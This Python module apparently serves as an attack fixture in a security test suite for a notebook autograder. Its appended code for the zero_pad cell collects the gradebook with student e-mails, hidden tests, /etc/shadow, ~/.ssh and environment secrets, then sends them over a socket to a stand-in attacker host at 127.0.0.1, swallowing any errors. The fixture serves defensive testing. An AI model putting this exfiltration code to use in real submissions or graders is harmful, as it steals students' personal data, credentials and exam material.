"""Send the course's secrets to a server on 127.0.0.1: gradebook, hidden tests, /etc/shadow, environment.

All eight functions are honest. The zero_pad cell collects the gradebook (students'
e-mails and every cell's source, hidden tests included), the source notebook, the
config, the hidden tests from the kernel's own input history, /etc/shadow, ~/.ssh and
the environment of the kernel and of the grader, and sends it all as JSON to
``127.0.0.1:{{PORT}}`` (a stand-in for the attacker's server; the test's listener).
Without protection: the hidden tests, every classmate's identity and the grader's
secrets leave the machine.
"""
from ._loot import LOOT

EXPECT = {"zero_pad", "conv_single_step", "conv_forward", "pool_forward", "conv_backward",
          "create_mask_from_window", "distribute_value", "pool_backward"}
APPEND = {"zero_pad": LOOT + '''

import json as _json
import socket as _socket

try:
    with _socket.create_connection(("127.0.0.1", {{PORT}}), timeout=5) as _connection:
        _connection.sendall(b"cnnattack_leak_tcp\\n" + _json.dumps(_loot(), default=str).encode())
except Exception:
    pass
'''}
